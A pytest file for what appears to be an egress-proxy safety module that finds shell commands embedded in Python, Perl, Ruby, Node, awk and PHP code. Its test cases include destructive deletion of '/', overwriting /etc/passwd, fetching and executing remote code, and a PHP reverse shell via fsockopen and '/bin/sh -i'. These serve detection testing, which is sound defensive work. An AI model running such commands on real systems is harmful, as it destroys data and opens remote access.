"""Shell texts inside other languages."""

import pytest

from egress_proxy.safety.foreign import shell_texts


@pytest.mark.parametrize(
    ("language", "code", "text"),
    [
        ("python", "import os;os.system('X y')", "X y"),
        ("python", 'subprocess.run(["X", "y"])', "'X' 'y'"),
        ("python", "shutil.rmtree('/')", "rm -rf '/'"),
        ("python", "open('/etc/passwd', 'w')", "true > '/etc/passwd'"),
        ("perl", 'system("X y")', "X y"),
        ("perl", "`X y`", "X y"),
        ("ruby", "%x{X y}", "X y"),
        ("node", "require('child_process').execSync('X y')", "X y"),
        ("awk", 'BEGIN{system("X y")}', "X y"),
        ("python", "exec(urlopen('https://x').read())", "curl fetched | sh"),
        ("php", '$s=fsockopen("h",1);exec("/bin/sh -i")', "sh -i > /dev/tcp/elsewhere/1"),
    ],
)
def test_calls_are_found(language: str, code: str, text: str) -> None:
    assert text in list(shell_texts(code, language))


@pytest.mark.parametrize(
    "code", ["print('rm -rf /')", "import re; re.search('sudo', 'x')", "console.log('rm -rf /')"]
)
def test_strings_alone_are_data(code: str) -> None:
    assert list(shell_texts(code, "python")) == []
